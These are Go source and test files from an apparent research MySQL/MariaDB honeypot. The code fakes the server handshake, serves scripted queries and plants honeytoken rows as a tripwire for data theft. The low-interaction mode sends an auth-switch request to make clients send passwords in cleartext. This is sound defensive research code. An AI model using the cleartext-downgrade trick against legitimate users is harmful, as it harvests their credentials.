	if !bytes.Contains(p, []byte("mysql_clear_password\x00")) {
		t.Fatalf("plugin name missing: %q", p)
	}
}
