package mysql

import (
	"bufio"
	"context"
	"errors"
	"io"
	"math/rand"
	"net"

	"decoydb/internal/core"
)

// Honeypot is the low-interaction MySQL honeypot: greet, harvest
// credentials (switching the client to cleartext auth when possible), deny.
type Honeypot struct {
	// Version overrides the advertised server version when non-empty.
	Version string
	// rng seeds per-connection salts; honeypots never need crypto-grade
	// randomness for a salt nobody verifies.
	seed int64
}

// New returns a MySQL honeypot.
func New() *Honeypot { return &Honeypot{Version: ServerVersion} }

// MariaDBVersion is the banner a MariaDB-flavoured instance advertises.
const MariaDBVersion = "5.5.5-10.6.12-MariaDB"

// NewMariaDB returns a MariaDB-flavoured honeypot. MariaDB speaks the
// same client/server protocol; only the greeting banner differs, which
// is exactly what scanners fingerprint on.
func NewMariaDB() *Honeypot { return &Honeypot{Version: MariaDBVersion} }

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(h.HandleConn)
}

// HandleConn serves one client connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 4096)
	bw := bufio.NewWriterSize(conn, 4096)

	hs := Handshake{Version: h.Version, ThreadID: 100 + uint32(rand.Int31n(1<<20)), AuthPlugin: "mysql_native_password"}
	for i := range hs.Salt {
		hs.Salt[i] = byte(33 + rand.Intn(94))
	}
	if err := WritePacket(bw, Packet{Seq: 0, Payload: hs.Encode()}); err != nil {
		return err
	}
	if err := bw.Flush(); err != nil {
		return err
	}

	pkt, err := ReadPacket(br)
	if err != nil {
		if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
			return nil // banner-grab scan: connect, read greeting, leave
		}
		return err
	}
	lr, err := ParseLoginRequest(pkt.Payload)
	if err != nil {
		s.Command("MALFORMED-LOGIN", HexAuth(pkt.Payload))
		return h.deny(bw, pkt.Seq+1, "unknown")
	}

	pass := ""
	if lr.Capabilities&CapPluginAuth != 0 {
		// Switch the client to cleartext so we capture the password, not
		// the scramble. Compliant clients answer with the raw password.
		req := AuthSwitchRequest("mysql_clear_password", nil)
		if err := WritePacket(bw, Packet{Seq: pkt.Seq + 1, Payload: req}); err != nil {
			return err
		}
		if err := bw.Flush(); err != nil {
			return err
		}
		resp, err := ReadPacket(br)
		if err == nil {
			p := resp.Payload
			for len(p) > 0 && p[len(p)-1] == 0 {
				p = p[:len(p)-1]
			}
			pass = string(p)
			s.Login(lr.User, pass, false)
			return h.deny(bw, resp.Seq+1, lr.User)
		}
		// Client bailed on the auth switch; log the scramble instead.
		s.Login(lr.User, HexAuth(lr.AuthData), false)
		return nil
	}
	s.Login(lr.User, HexAuth(lr.AuthData), false)
	return h.deny(bw, pkt.Seq+1, lr.User)
}

func (h *Honeypot) deny(bw *bufio.Writer, seq byte, user string) error {
	msg := "Access denied for user '" + user + "'@'client' (using password: YES)"
	if err := WritePacket(bw, Packet{Seq: seq, Payload: ErrPacket(1045, "28000", msg)}); err != nil {
		return err
	}
	return bw.Flush()
}
