// Medium-interaction MySQL mode. The paper's related-work section
// surveys MySQL honeypots that go beyond credential capture: Ma et al.'s
// high-interaction SQL-injection observatory and Wegerer & Tjoa's
// honeytoken-instrumented MySQL. This mode implements that design point:
// logins are accepted, the text query protocol is answered with scripted
// results, and the bait schema is laced with honeytoken rows whose
// retrieval raises a distinct observation ("SELECT-HONEYTOKEN") — a
// tripwire for data theft.
package mysql

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net"
	"strings"

	"decoydb/internal/core"
	"decoydb/internal/wire"
)

// Command bytes of the MySQL text protocol.
const (
	ComQuit   = 0x01
	ComInitDB = 0x02
	ComQuery  = 0x03
	ComPing   = 0x0e
)

// MediumOptions configure the medium-interaction honeypot.
type MediumOptions struct {
	// Honeytokens maps username -> password rows planted in the bait
	// `users` table. Reading them trips the SELECT-HONEYTOKEN marker.
	Honeytokens map[string]string
	// Databases lists the schema names SHOW DATABASES reveals.
	Databases []string
}

// Medium is the medium-interaction MySQL honeypot.
type Medium struct {
	opts MediumOptions
}

// NewMedium returns a medium-interaction MySQL honeypot.
func NewMedium(opts MediumOptions) *Medium {
	if len(opts.Databases) == 0 {
		opts.Databases = []string{"information_schema", "mysql", "shop", "crm"}
	}
	return &Medium{opts: opts}
}

// Handler returns a core.Handler bound to this honeypot.
func (m *Medium) Handler() core.Handler {
	return core.HandlerFunc(m.HandleConn)
}

// HandleConn serves one client connection: greet, accept any credentials,
// answer queries.
func (m *Medium) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 8192)
	bw := bufio.NewWriterSize(conn, 8192)

	hs := Handshake{Version: ServerVersion, ThreadID: 100 + uint32(rand.Int31n(1<<20)), AuthPlugin: "mysql_native_password"}
	for i := range hs.Salt {
		hs.Salt[i] = byte(33 + rand.Intn(94))
	}
	if err := WritePacket(bw, Packet{Seq: 0, Payload: hs.Encode()}); err != nil {
		return err
	}
	if err := bw.Flush(); err != nil {
		return err
	}

	pkt, err := ReadPacket(br)
	if err != nil {
		if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
			return nil
		}
		return err
	}
	lr, err := ParseLoginRequest(pkt.Payload)
	if err != nil {
		s.Command("MALFORMED-LOGIN", HexAuth(pkt.Payload))
		return nil
	}
	s.Login(lr.User, HexAuth(lr.AuthData), true)
	if err := WritePacket(bw, Packet{Seq: pkt.Seq + 1, Payload: okPacket()}); err != nil {
		return err
	}
	if err := bw.Flush(); err != nil {
		return err
	}
	return m.queryLoop(ctx, br, bw, s)
}

func (m *Medium) queryLoop(ctx context.Context, br *bufio.Reader, bw *bufio.Writer, s *core.Session) error {
	seq := byte(0)
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		pkt, err := ReadPacket(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			return err
		}
		if len(pkt.Payload) == 0 {
			continue
		}
		seq = pkt.Seq
		write := func(payloads ...[]byte) error {
			for _, p := range payloads {
				seq++
				if err := WritePacket(bw, Packet{Seq: seq, Payload: p}); err != nil {
					return err
				}
			}
			return bw.Flush()
		}
		switch pkt.Payload[0] {
		case ComQuit:
			s.Command("QUIT", "")
			return nil
		case ComPing:
			s.Command("PING", "")
			if err := write(okPacket()); err != nil {
				return err
			}
		case ComInitDB:
			db := string(pkt.Payload[1:])
			s.Command("USE", "USE "+db)
			if err := write(okPacket()); err != nil {
				return err
			}
		case ComQuery:
			sql := string(pkt.Payload[1:])
			action, resp := m.respond(sql)
			s.Command(action, sql)
			if err := write(resp...); err != nil {
				return err
			}
		default:
			s.Command("UNEXPECTED-COM", fmt.Sprintf("com=%#x", pkt.Payload[0]))
			if err := write(errPacketBytes(1047, "08S01", "Unknown command")); err != nil {
				return err
			}
		}
	}
}

// respond builds the scripted reply packets for one query.
func (m *Medium) respond(sql string) (string, [][]byte) {
	up := strings.ToUpper(strings.TrimSpace(sql))
	switch {
	case strings.HasPrefix(up, "SELECT @@VERSION"), strings.HasPrefix(up, "SELECT VERSION"):
		return "SELECT VERSION", resultSet([]string{"@@version"}, [][]string{{ServerVersion}})
	case strings.HasPrefix(up, "SHOW DATABASES"):
		rows := make([][]string, len(m.opts.Databases))
		for i, db := range m.opts.Databases {
			rows[i] = []string{db}
		}
		return "SHOW DATABASES", resultSet([]string{"Database"}, rows)
	case strings.HasPrefix(up, "SHOW TABLES"):
		return "SHOW TABLES", resultSet([]string{"Tables_in_shop"}, [][]string{{"users"}, {"orders"}, {"payments"}})
	case strings.Contains(up, "FROM USERS"), strings.Contains(up, "FROM `USERS`"):
		// The honeytoken tripwire: the bait credentials leave with the
		// attacker, and the session is marked.
		rows := make([][]string, 0, len(m.opts.Honeytokens))
		for u, p := range m.opts.Honeytokens {
			rows = append(rows, []string{u, p})
		}
		return "SELECT-HONEYTOKEN", resultSet([]string{"username", "password"}, rows)
	case strings.HasPrefix(up, "SELECT"):
		return "SELECT", resultSet([]string{"1"}, [][]string{{"1"}})
	case strings.HasPrefix(up, "SHOW"):
		return "SHOW", resultSet([]string{"Variable_name", "Value"}, [][]string{{"version", ServerVersion}})
	case strings.HasPrefix(up, "SET"):
		return "SET", [][]byte{okPacket()}
	case strings.HasPrefix(up, "INSERT"), strings.HasPrefix(up, "UPDATE"), strings.HasPrefix(up, "DELETE"):
		return strings.Fields(up)[0], [][]byte{okPacket()}
	case strings.HasPrefix(up, "DROP"), strings.HasPrefix(up, "CREATE"), strings.HasPrefix(up, "ALTER"):
		return strings.Join(firstWords(up, 2), " "), [][]byte{okPacket()}
	case up == "":
		return "EMPTY", [][]byte{errPacketBytes(1065, "42000", "Query was empty")}
	default:
		w := firstWords(up, 1)
		return w[0], [][]byte{errPacketBytes(1064, "42000", "You have an error in your SQL syntax")}
	}
}

func firstWords(s string, n int) []string {
	f := strings.Fields(s)
	if len(f) == 0 {
		return []string{"UNKNOWN"}
	}
	if len(f) > n {
		f = f[:n]
	}
	return f
}

// --- text-protocol result set encoding ---

func appendLenenc(b []byte, n uint64) []byte {
	switch {
	case n < 251:
		return append(b, byte(n))
	case n < 1<<16:
		return append(b, 0xfc, byte(n), byte(n>>8))
	case n < 1<<24:
		return append(b, 0xfd, byte(n), byte(n>>8), byte(n>>16))
	default:
		return append(b, 0xfe, byte(n), byte(n>>8), byte(n>>16), byte(n>>24),
			byte(n>>32), byte(n>>40), byte(n>>48), byte(n>>56))
	}
}

func appendLenencStr(b []byte, s string) []byte {
	b = appendLenenc(b, uint64(len(s)))
	return append(b, s...)
}

func okPacket() []byte {
	w := wire.NewWriter(8)
	w.Uint8(0x00)      // OK header
	w.Uint8(0)         // affected rows (lenenc)
	w.Uint8(0)         // last insert id (lenenc)
	w.Uint16LE(0x0002) // status: autocommit
	w.Uint16LE(0)      // warnings
	return w.Bytes()
}

func eofPacket() []byte {
	w := wire.NewWriter(5)
	w.Uint8(0xfe)
	w.Uint16LE(0)      // warnings
	w.Uint16LE(0x0002) // status
	return w.Bytes()
}

func errPacketBytes(code uint16, state, msg string) []byte {
	return ErrPacket(code, state, msg)
}

func columnDef(name string) []byte {
	var b []byte
	b = appendLenencStr(b, "def")         // catalog
	b = appendLenencStr(b, "shop")        // schema
	b = appendLenencStr(b, "t")           // table
	b = appendLenencStr(b, "t")           // org table
	b = appendLenencStr(b, name)          // name
	b = appendLenencStr(b, name)          // org name
	b = append(b, 0x0c)                   // fixed-length fields marker
	b = append(b, 0x21, 0x00)             // charset utf8
	b = append(b, 0x00, 0x01, 0x00, 0x00) // column length
	b = append(b, 0xfd)                   // type VAR_STRING
	b = append(b, 0x00, 0x00)             // flags
	b = append(b, 0x00)                   // decimals
	b = append(b, 0x00, 0x00)             // filler
	return b
}

// resultSet renders the packet sequence of a text-protocol result:
// column count, column definitions, EOF, rows, EOF.
func resultSet(cols []string, rows [][]string) [][]byte {
	out := make([][]byte, 0, len(cols)+len(rows)+3)
	out = append(out, appendLenenc(nil, uint64(len(cols))))
	for _, c := range cols {
		out = append(out, columnDef(c))
	}
	out = append(out, eofPacket())
	for _, row := range rows {
		var b []byte
		for _, cell := range row {
			b = appendLenencStr(b, cell)
		}
		out = append(out, b)
	}
	out = append(out, eofPacket())
	return out
}
