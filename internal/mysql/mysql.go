// Package mysql implements a low-interaction MySQL honeypot in the style of
// the Qeeqbox MySQL honeypot the paper deployed on port 3306. It performs
// the server side of the MySQL client/server protocol handshake, captures
// credentials, and denies every login.
//
// To capture plaintext passwords (rather than mysql_native_password
// scrambles) the honeypot answers every HandshakeResponse with an
// AuthSwitchRequest for mysql_clear_password — a standard honeypot trick
// that automated brute-force tools overwhelmingly comply with.
package mysql

import (
	"encoding/hex"
	"fmt"
	"io"

	"decoydb/internal/wire"
)

// ServerVersion is the banner version the honeypot advertises.
const ServerVersion = "5.7.29-log"

// Capability flags (subset) from the MySQL protocol.
const (
	CapLongPassword         = 0x00000001
	CapConnectWithDB        = 0x00000008
	CapProtocol41           = 0x00000200
	CapSecureConnection     = 0x00008000
	CapPluginAuth           = 0x00080000
	CapPluginAuthLenencData = 0x00200000
)

// MaxPacket bounds accepted client packet payloads.
const MaxPacket = 1 << 20

// Packet is one MySQL wire packet: a sequence number and payload.
type Packet struct {
	Seq     byte
	Payload []byte
}

// ReadPacket reads one length-prefixed MySQL packet.
func ReadPacket(r io.Reader) (Packet, error) {
	var hdr [4]byte
	if err := wire.ReadFull(r, hdr[:]); err != nil {
		return Packet{}, err
	}
	n := int(hdr[0]) | int(hdr[1])<<8 | int(hdr[2])<<16
	payload, err := wire.ReadN(r, n, MaxPacket)
	if err != nil {
		return Packet{}, err
	}
	return Packet{Seq: hdr[3], Payload: payload}, nil
}

// WritePacket writes one length-prefixed MySQL packet.
func WritePacket(w io.Writer, p Packet) error {
	n := len(p.Payload)
	if n > MaxPacket {
		return wire.ErrFrameTooLarge
	}
	hdr := []byte{byte(n), byte(n >> 8), byte(n >> 16), p.Seq}
	if _, err := w.Write(hdr); err != nil {
		return err
	}
	_, err := w.Write(p.Payload)
	return err
}

// Handshake is the server greeting (HandshakeV10).
type Handshake struct {
	Version    string
	ThreadID   uint32
	Salt       [20]byte
	AuthPlugin string
}

// Encode renders the HandshakeV10 payload.
func (h Handshake) Encode() []byte {
	w := wire.NewWriter(128)
	w.Uint8(0x0a)
	w.CString(h.Version)
	w.Uint32LE(h.ThreadID)
	w.Raw(h.Salt[:8])
	w.Uint8(0)
	caps := uint32(CapLongPassword | CapConnectWithDB | CapProtocol41 |
		CapSecureConnection | CapPluginAuth)
	w.Uint16LE(uint16(caps))
	w.Uint8(0x21)      // charset utf8_general_ci
	w.Uint16LE(0x0002) // status: autocommit
	w.Uint16LE(uint16(caps >> 16))
	w.Uint8(21) // auth plugin data length
	w.Zeros(10)
	w.Raw(h.Salt[8:20])
	w.Uint8(0)
	w.CString(h.AuthPlugin)
	return w.Bytes()
}

// ParseHandshake decodes a HandshakeV10 payload (client side; used by the
// simulator and tests).
func ParseHandshake(payload []byte) (Handshake, error) {
	r := wire.NewReader(payload)
	ver, err := r.Uint8()
	if err != nil || ver != 0x0a {
		return Handshake{}, fmt.Errorf("mysql: bad protocol version")
	}
	var h Handshake
	if h.Version, err = r.CString(); err != nil {
		return Handshake{}, err
	}
	if h.ThreadID, err = r.Uint32LE(); err != nil {
		return Handshake{}, err
	}
	part1, err := r.Bytes(8)
	if err != nil {
		return Handshake{}, err
	}
	copy(h.Salt[:8], part1)
	if err := r.Skip(1 + 2 + 1 + 2 + 2 + 1 + 10); err != nil {
		return Handshake{}, err
	}
	part2, err := r.Bytes(12)
	if err != nil {
		return Handshake{}, err
	}
	copy(h.Salt[8:], part2)
	if err := r.Skip(1); err != nil {
		return Handshake{}, err
	}
	if h.AuthPlugin, err = r.CString(); err != nil {
		// Some servers omit the plugin name; not fatal.
		h.AuthPlugin = ""
	}
	return h, nil
}

// LoginRequest is a parsed HandshakeResponse41.
type LoginRequest struct {
	Capabilities uint32
	MaxPacket    uint32
	Charset      byte
	User         string
	AuthData     []byte
	Database     string
	AuthPlugin   string
}

// ParseLoginRequest decodes a HandshakeResponse41 payload from a client.
func ParseLoginRequest(payload []byte) (LoginRequest, error) {
	r := wire.NewReader(payload)
	var lr LoginRequest
	var err error
	if lr.Capabilities, err = r.Uint32LE(); err != nil {
		return lr, fmt.Errorf("mysql: login request: %w", err)
	}
	if lr.Capabilities&CapProtocol41 == 0 {
		return lr, fmt.Errorf("mysql: pre-4.1 client not supported")
	}
	if lr.MaxPacket, err = r.Uint32LE(); err != nil {
		return lr, err
	}
	if lr.Charset, err = r.Uint8(); err != nil {
		return lr, err
	}
	if err = r.Skip(23); err != nil {
		return lr, err
	}
	if lr.User, err = r.CString(); err != nil {
		return lr, err
	}
	switch {
	case lr.Capabilities&CapPluginAuthLenencData != 0:
		n, err := readLenenc(r)
		if err != nil {
			return lr, err
		}
		if lr.AuthData, err = r.Bytes(int(n)); err != nil {
			return lr, err
		}
	case lr.Capabilities&CapSecureConnection != 0:
		n, err := r.Uint8()
		if err != nil {
			return lr, err
		}
		if lr.AuthData, err = r.Bytes(int(n)); err != nil {
			return lr, err
		}
	default:
		s, err := r.CString()
		if err != nil {
			return lr, err
		}
		lr.AuthData = []byte(s)
	}
	if lr.Capabilities&CapConnectWithDB != 0 && r.Len() > 0 {
		if lr.Database, err = r.CString(); err != nil {
			return lr, err
		}
	}
	if lr.Capabilities&CapPluginAuth != 0 && r.Len() > 0 {
		if lr.AuthPlugin, err = r.CString(); err != nil {
			return lr, err
		}
	}
	return lr, nil
}

// EncodeLoginRequest renders a HandshakeResponse41 (client side).
func EncodeLoginRequest(lr LoginRequest) []byte {
	w := wire.NewWriter(64 + len(lr.User) + len(lr.AuthData))
	caps := lr.Capabilities
	if caps == 0 {
		caps = CapLongPassword | CapProtocol41 | CapSecureConnection | CapPluginAuth
	}
	w.Uint32LE(caps)
	w.Uint32LE(lr.MaxPacket)
	w.Uint8(lr.Charset)
	w.Zeros(23)
	w.CString(lr.User)
	w.Uint8(byte(len(lr.AuthData)))
	w.Raw(lr.AuthData)
	if caps&CapConnectWithDB != 0 {
		w.CString(lr.Database)
	}
	if caps&CapPluginAuth != 0 {
		plugin := lr.AuthPlugin
		if plugin == "" {
			plugin = "mysql_native_password"
		}
		w.CString(plugin)
	}
	return w.Bytes()
}

// ErrPacket renders a MySQL ERR packet payload.
func ErrPacket(code uint16, sqlState, msg string) []byte {
	w := wire.NewWriter(16 + len(msg))
	w.Uint8(0xff)
	w.Uint16LE(code)
	w.Uint8('#')
	w.String(sqlState)
	w.String(msg)
	return w.Bytes()
}

// AuthSwitchRequest renders an AuthSwitchRequest payload asking the client
// to re-authenticate with the named plugin.
func AuthSwitchRequest(plugin string, data []byte) []byte {
	w := wire.NewWriter(2 + len(plugin) + len(data))
	w.Uint8(0xfe)
	w.CString(plugin)
	w.Raw(data)
	w.Uint8(0)
	return w.Bytes()
}

// HexAuth renders captured binary auth data for logging.
func HexAuth(data []byte) string {
	if len(data) == 0 {
		return ""
	}
	return "sha1:" + hex.EncodeToString(data)
}

func readLenenc(r *wire.Reader) (uint64, error) {
	b, err := r.Uint8()
	if err != nil {
		return 0, err
	}
	switch {
	case b < 0xfb:
		return uint64(b), nil
	case b == 0xfc:
		v, err := r.Uint16LE()
		return uint64(v), err
	case b == 0xfd:
		lo, err := r.Uint16LE()
		if err != nil {
			return 0, err
		}
		hi, err := r.Uint8()
		return uint64(lo) | uint64(hi)<<16, err
	case b == 0xfe:
		return r.Uint64LE()
	}
	return 0, fmt.Errorf("mysql: invalid length-encoded integer prefix %#x", b)
}
