package mysql

import (
	"bufio"
	"net"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
	"decoydb/internal/wire"
)

func mediumInfo() core.Info {
	return core.Info{DBMS: core.MySQL, Level: core.Medium, Port: 3306, Config: core.ConfigFakeData, Group: core.GroupMedium}
}

// mediumClient logs in and issues text-protocol queries.
type mediumClient struct {
	t   *testing.T
	br  *bufio.Reader
	c   net.Conn
	seq byte
}

func loginMedium(t *testing.T, conn net.Conn) *mediumClient {
	t.Helper()
	br := bufio.NewReader(conn)
	if _, err := ReadPacket(br); err != nil {
		t.Fatalf("greeting: %v", err)
	}
	lr := LoginRequest{
		Capabilities: CapLongPassword | CapProtocol41 | CapSecureConnection,
		MaxPacket:    1 << 24, Charset: 0x21,
		User: "root", AuthData: []byte{1, 2, 3},
	}
	if err := WritePacket(conn, Packet{Seq: 1, Payload: EncodeLoginRequest(lr)}); err != nil {
		t.Fatal(err)
	}
	ok, err := ReadPacket(br)
	if err != nil || len(ok.Payload) == 0 || ok.Payload[0] != 0x00 {
		t.Fatalf("login not accepted: %v % x", err, ok.Payload)
	}
	return &mediumClient{t: t, br: br, c: conn}
}

// query sends COM_QUERY and reads packets until the final EOF/OK/ERR,
// returning the text cells of any rows.
func (m *mediumClient) query(sql string) (rows [][]string, errPkt bool) {
	m.t.Helper()
	payload := append([]byte{ComQuery}, sql...)
	if err := WritePacket(m.c, Packet{Seq: 0, Payload: payload}); err != nil {
		m.t.Fatal(err)
	}
	first, err := ReadPacket(m.br)
	if err != nil {
		m.t.Fatalf("query response: %v", err)
	}
	switch first.Payload[0] {
	case 0x00:
		return nil, false // OK packet
	case 0xff:
		return nil, true
	}
	// Result set: first packet is the column count.
	r := wire.NewReader(first.Payload)
	ncols64, _ := readLenenc(r)
	ncols := int(ncols64)
	for i := 0; i < ncols; i++ {
		if _, err := ReadPacket(m.br); err != nil {
			m.t.Fatalf("column def: %v", err)
		}
	}
	if _, err := ReadPacket(m.br); err != nil { // EOF after columns
		m.t.Fatalf("columns EOF: %v", err)
	}
	for {
		pkt, err := ReadPacket(m.br)
		if err != nil {
			m.t.Fatalf("row: %v", err)
		}
		if pkt.Payload[0] == 0xfe && len(pkt.Payload) < 9 {
			return rows, false
		}
		rr := wire.NewReader(pkt.Payload)
		row := make([]string, 0, ncols)
		for c := 0; c < ncols; c++ {
			n, err := readLenenc(rr)
			if err != nil {
				m.t.Fatalf("cell length: %v", err)
			}
			cell, err := rr.Bytes(int(n))
			if err != nil {
				m.t.Fatalf("cell: %v", err)
			}
			row = append(row, string(cell))
		}
		rows = append(rows, row)
	}
}

func TestMediumQuerySurface(t *testing.T) {
	hp := NewMedium(MediumOptions{Honeytokens: map[string]string{"alice": "s3cret", "bob": "hunter2"}})
	events := hptest.Run(t, hp.Handler(), mediumInfo(), func(t *testing.T, conn net.Conn) {
		cl := loginMedium(t, conn)
		if rows, _ := cl.query("SELECT @@version"); len(rows) != 1 || rows[0][0] != ServerVersion {
			t.Errorf("version rows = %v", rows)
		}
		if rows, _ := cl.query("SHOW DATABASES"); len(rows) != 4 {
			t.Errorf("databases = %v", rows)
		}
		if rows, _ := cl.query("SHOW TABLES"); len(rows) != 3 {
			t.Errorf("tables = %v", rows)
		}
		// The data-theft query trips the honeytoken.
		rows, _ := cl.query("SELECT * FROM users")
		if len(rows) != 2 || len(rows[0]) != 2 {
			t.Errorf("honeytoken rows = %v", rows)
		}
		if _, errPkt := cl.query("TOTALLY WRONG SQL"); !errPkt {
			t.Error("syntax error not reported")
		}
		if _, errPkt := cl.query("INSERT INTO x VALUES (1)"); errPkt {
			t.Error("insert rejected")
		}
		// COM_PING and COM_INIT_DB.
		WritePacket(conn, Packet{Seq: 0, Payload: []byte{ComPing}})
		if pkt, err := ReadPacket(cl.br); err != nil || pkt.Payload[0] != 0x00 {
			t.Errorf("ping = %v % x", err, pkt.Payload)
		}
		WritePacket(conn, Packet{Seq: 0, Payload: append([]byte{ComInitDB}, "shop"...)})
		if pkt, err := ReadPacket(cl.br); err != nil || pkt.Payload[0] != 0x00 {
			t.Errorf("init db = %v % x", err, pkt.Payload)
		}
		WritePacket(conn, Packet{Seq: 0, Payload: []byte{ComQuit}})
	})

	cmds := hptest.Commands(events)
	wantSeq := []string{"SELECT VERSION", "SHOW DATABASES", "SHOW TABLES", "SELECT-HONEYTOKEN", "TOTALLY", "INSERT", "PING", "USE", "QUIT"}
	if len(cmds) != len(wantSeq) {
		t.Fatalf("commands = %v", cmds)
	}
	for i, w := range wantSeq {
		if cmds[i] != w {
			t.Fatalf("commands[%d] = %q, want %q", i, cmds[i], w)
		}
	}
	// The accepted login is recorded as OK (medium interaction lets
	// everyone in, like the open PostgreSQL config).
	logins := hptest.Logins(events)
	if len(logins) != 1 || logins[0][0] != "root" {
		t.Fatalf("logins = %v", logins)
	}
	for _, e := range events {
		if e.Kind == core.EventLogin && !e.OK {
			t.Fatal("medium mode rejected the login")
		}
	}
}

func TestMediumUnknownCommand(t *testing.T) {
	hp := NewMedium(MediumOptions{})
	events := hptest.Run(t, hp.Handler(), mediumInfo(), func(t *testing.T, conn net.Conn) {
		cl := loginMedium(t, conn)
		WritePacket(conn, Packet{Seq: 0, Payload: []byte{0x1f, 0x00}})
		if pkt, err := ReadPacket(cl.br); err != nil || pkt.Payload[0] != 0xff {
			t.Fatalf("unknown com reply = %v % x", err, pkt.Payload)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "UNEXPECTED-COM" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestLenencWriter(t *testing.T) {
	cases := []struct {
		n    uint64
		size int
	}{
		{0, 1}, {250, 1}, {251, 3}, {1 << 15, 3}, {1 << 20, 4}, {1 << 30, 9},
	}
	for _, c := range cases {
		b := appendLenenc(nil, c.n)
		if len(b) != c.size {
			t.Errorf("appendLenenc(%d) = %d bytes, want %d", c.n, len(b), c.size)
		}
		got, err := readLenenc(wire.NewReader(b))
		if err != nil || got != c.n {
			t.Errorf("round trip %d -> %d, %v", c.n, got, err)
		}
	}
}
