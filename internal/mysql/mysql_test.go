package mysql

import (
	"bufio"
	"bytes"
	"net"
	"testing"
	"testing/quick"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func TestPacketRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	want := Packet{Seq: 3, Payload: []byte{1, 2, 3, 4, 5}}
	if err := WritePacket(&buf, want); err != nil {
		t.Fatal(err)
	}
	got, err := ReadPacket(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Seq != want.Seq || !bytes.Equal(got.Payload, want.Payload) {
		t.Fatalf("got %+v, want %+v", got, want)
	}
}

func TestPacketOversized(t *testing.T) {
	// Declared 16MB-1 payload, no body: must be rejected by the limit.
	hdr := []byte{0xff, 0xff, 0xff, 0x00}
	if _, err := ReadPacket(bytes.NewReader(hdr)); err == nil {
		t.Fatal("oversized packet accepted")
	}
}

func TestHandshakeRoundTrip(t *testing.T) {
	want := Handshake{Version: ServerVersion, ThreadID: 1234, AuthPlugin: "mysql_native_password"}
	for i := range want.Salt {
		want.Salt[i] = byte('!' + i)
	}
	got, err := ParseHandshake(want.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if got.Version != want.Version || got.ThreadID != want.ThreadID ||
		got.Salt != want.Salt || got.AuthPlugin != want.AuthPlugin {
		t.Fatalf("got %+v, want %+v", got, want)
	}
}

func TestLoginRequestRoundTrip(t *testing.T) {
	f := func(user, db string, auth []byte) bool {
		if bytes.IndexByte([]byte(user), 0) >= 0 || bytes.IndexByte([]byte(db), 0) >= 0 {
			return true // NUL-terminated fields cannot carry NULs
		}
		if len(auth) > 255 {
			auth = auth[:255]
		}
		in := LoginRequest{
			Capabilities: CapLongPassword | CapProtocol41 | CapSecureConnection | CapPluginAuth | CapConnectWithDB,
			MaxPacket:    1 << 24,
			Charset:      0x21,
			User:         user,
			AuthData:     auth,
			Database:     db,
			AuthPlugin:   "mysql_native_password",
		}
		out, err := ParseLoginRequest(EncodeLoginRequest(in))
		if err != nil {
			return false
		}
		return out.User == in.User && bytes.Equal(out.AuthData, in.AuthData) &&
			out.Database == in.Database && out.AuthPlugin == in.AuthPlugin
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestParseLoginRequestRejectsOldProtocol(t *testing.T) {
	payload := make([]byte, 32) // capabilities = 0 → pre-4.1
	if _, err := ParseLoginRequest(payload); err == nil {
		t.Fatal("pre-4.1 login accepted")
	}
}

func TestErrPacketShape(t *testing.T) {
	p := ErrPacket(1045, "28000", "Access denied")
	if p[0] != 0xff {
		t.Fatalf("marker = %#x", p[0])
	}
	if code := uint16(p[1]) | uint16(p[2])<<8; code != 1045 {
		t.Fatalf("code = %d", code)
	}
	if !bytes.HasSuffix(p, []byte("Access denied")) {
		t.Fatalf("payload = %q", p)
	}
}

func mysqlInfo() core.Info {
	return core.Info{DBMS: core.MySQL, Level: core.Low, Port: 3306, Config: core.ConfigDefault, Group: core.GroupMulti}
}

// Dial performs the client side of a full login attempt against the
// honeypot, complying with the cleartext auth switch.
func dialAndLogin(t *testing.T, conn net.Conn, user, pass string) {
	t.Helper()
	br := bufio.NewReader(conn)
	greeting, err := ReadPacket(br)
	if err != nil {
		t.Fatalf("read greeting: %v", err)
	}
	hs, err := ParseHandshake(greeting.Payload)
	if err != nil {
		t.Fatalf("parse greeting: %v", err)
	}
	if hs.Version != ServerVersion {
		t.Errorf("greeting version = %q", hs.Version)
	}
	lr := LoginRequest{
		Capabilities: CapLongPassword | CapProtocol41 | CapSecureConnection | CapPluginAuth,
		MaxPacket:    1 << 24, Charset: 0x21,
		User: user, AuthData: []byte{0xde, 0xad},
	}
	if err := WritePacket(conn, Packet{Seq: 1, Payload: EncodeLoginRequest(lr)}); err != nil {
		t.Fatal(err)
	}
	sw, err := ReadPacket(br)
	if err != nil {
		t.Fatalf("read auth switch: %v", err)
	}
	if sw.Payload[0] != 0xfe {
		t.Fatalf("expected auth switch, got %#x", sw.Payload[0])
	}
	if err := WritePacket(conn, Packet{Seq: sw.Seq + 1, Payload: append([]byte(pass), 0)}); err != nil {
		t.Fatal(err)
	}
	deny, err := ReadPacket(br)
	if err != nil {
		t.Fatalf("read denial: %v", err)
	}
	if deny.Payload[0] != 0xff {
		t.Fatalf("expected ERR packet, got %#x", deny.Payload[0])
	}
}

func TestHoneypotCapturesCleartext(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), mysqlInfo(), func(t *testing.T, conn net.Conn) {
		dialAndLogin(t, conn, "root", "aaaaaa")
	})
	logins := hptest.Logins(events)
	if len(logins) != 1 || logins[0] != [2]string{"root", "aaaaaa"} {
		t.Fatalf("logins = %v", logins)
	}
}

func TestHoneypotBannerGrab(t *testing.T) {
	hp := New()
